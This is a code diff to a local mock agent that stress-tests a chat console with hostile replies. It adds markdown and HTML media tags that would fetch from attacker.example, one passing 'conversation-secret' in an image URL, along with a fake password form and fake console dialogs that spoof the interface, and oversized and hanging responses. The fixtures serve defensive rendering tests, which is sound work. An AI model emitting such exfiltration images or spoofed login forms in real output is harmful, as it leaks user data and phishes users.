@@ -17,7 +17,9 @@ export interface StreamStep {
 export type Reply =
   | { kind: 'json'; value: unknown }
   | { kind: 'stream'; steps: AsyncIterable<StreamStep> | Iterable<StreamStep> }
-  | { kind: 'error'; status: number; message: string; type: string };
+  | { kind: 'error'; status: number; message: string; type: string }
+  /** An error status whose body starts and never ends, like a gateway stuck mid-response. */
+  | { kind: 'hanging-error'; status: number; start: string };
 
 const AUTHOR = 'local_agent';
 const STEP_DELAY_MS = 40;
@@ -37,6 +39,50 @@ export const HOSTILE_MARKDOWN = [
   '[a safe link](https://example.com/docs)',
 ].join('\n\n');
 
+/** Everything here would make the browser fetch from `base` without a click, if it were rendered as sent. */
+export function hostileMedia(base: string): string {
+  return [
+    '# Hostile media test',
+    'Nothing below may load from the network on its own.',
+    `![the quarterly chart](${base}/markdown-image.png?d=conversation-secret)`,
+    `<img src="${base}/raw-img.png" srcset="${base}/srcset.png 2x">`,
+    `<audio autoplay src="${base}/audio.mp3"><source src="${base}/audio-source.mp3"><track src="${base}/track.vtt"></audio>`,
+    `<video poster="${base}/poster.png" autoplay muted src="${base}/video.mp4"></video>`,
+    `<picture><source srcset="${base}/picture.webp"><img src="${base}/picture.png"></picture>`,
+    `<table background="${base}/table-background.png"><tr><td background="${base}/cell-background.png">a table cell</td></tr></table>`,
+    `<p style="background-image: url(${base}/style-attribute.png)">a styled paragraph</p>`,
+    `<style>.markdown { background: url(${base}/style-element.png) }</style>`,
+    `<link rel="stylesheet" href="${base}/stylesheet.css"><link rel="prefetch" href="${base}/prefetch">`,
+    `<object data="${base}/object.swf"></object><embed src="${base}/embed.swf">`,
+    `<input type="image" src="${base}/input-image.png">`,
+    'The end of the hostile media.',
+  ].join('\n\n');
+}
+
+/** Content that dresses up as the console itself: its classes, its controls, its dialogs and tool lines. */
+export const IMITATION_MARKDOWN = [
+  '# Imitation test',
+  '<div class="failure" id="chat-log" role="alert">Your session expired. Enter your password below.</div>',
+  '<form action="https://attacker.example/"><input name="password" placeholder="Password"><button>Sign in</button></form>',
+  '<dialog open>A fake console dialog</dialog>',
+  '<details class="tool-line" open><summary>Called get_weather</summary>a fake tool call</details>',
+  '<map name="m"><area href="https://attacker.example/" shape="rect" coords="0,0,10,10"></map>',
+  '[a protocol-relative link](//attacker.example/path) and [a backslash link](/\\attacker.example/path)',
+  'The end of the imitation.',
+].join('\n\n');
+
+const HUGE_LINE = `${'0123456789abcdef'.repeat(7)}\n`;
+
+/** Fast, big deltas of one code block (cheap to render) until well past the console's 4 MiB answer cap. */
+function* hugeStream(mebibytes: number): Iterable<StreamStep> {
+  const invocationId = `e-${randomUUID()}`;
+  const delta = HUGE_LINE.repeat(512); // ~57 KiB
+  const steps = Math.ceil((mebibytes * 1024 * 1024) / delta.length);
+  yield { payload: adkText(invocationId, 'The start of a huge answer.\n\n```text\n', true), delayMs: 0 };
+  for (let index = 0; index < steps; index++) yield { payload: adkText(invocationId, delta, true), delayMs: 0 };
+  yield { payload: adkText(invocationId, '```\n\nThe end of the huge answer.', true), delayMs: 0 };
+}
+
 const HELP = [
   '**Local agent commands**',
   '',
@@ -50,7 +96,11 @@ const HELP = [
   '| `/count <n>` | n streamed deltas as fast as possible (default 2000) |',
   '| `/slow` | a slow stream of one word every 250 ms for a minute |',
   '| `/hostile` | markdown full of scripts and `javascript:` links |',
+  '| `/hostile-media [url]` | images, audio, video, backgrounds and styles that would load from url (default https://attacker.example) |',
+  '| `/imitate` | HTML dressed up as the console: its classes, a password form, a dialog, a fake tool line |',
+  "| `/huge [MiB]` | a stream of about 6 MiB (or the size given), past the console's 4 MiB answer cap |",
   '| `/fail` | a 500 from failing agent code |',
+  '| `/hang-error` | a 500 whose body starts and never ends |',
   '| `/stream-fail` | a stream that fails midway with an error frame |',
   '',
   'The same call from a terminal:',
@@ -171,6 +221,14 @@ export function replyTo(prompt: string, caller: Caller, wantsStream: boolean): R
       return { kind: 'stream', steps: streamText('tick '.repeat(240).trim(), 250) };
     case '/hostile':
       return { kind: 'json', value: HOSTILE_MARKDOWN };
+    case '/hostile-media':
+      return { kind: 'json', value: hostileMedia((argument || 'https://attacker.example').replace(/\/+$/, '')) };
+    case '/imitate':
+      return { kind: 'json', value: IMITATION_MARKDOWN };
+    case '/huge':
+      return { kind: 'stream', steps: hugeStream(Math.min(Math.max(Number(argument) || 6, 1), 64)) };
+    case '/hang-error':
+      return { kind: 'hanging-error', status: 500, start: '{"error": {"type": "RuntimeError", "message": "This error body never ends' };
     case '/fail':
       return { kind: 'error', status: 500, message: 'The agent code raised an exception (simulated by /fail).', type: 'RuntimeError' };
     case '/stream-fail':
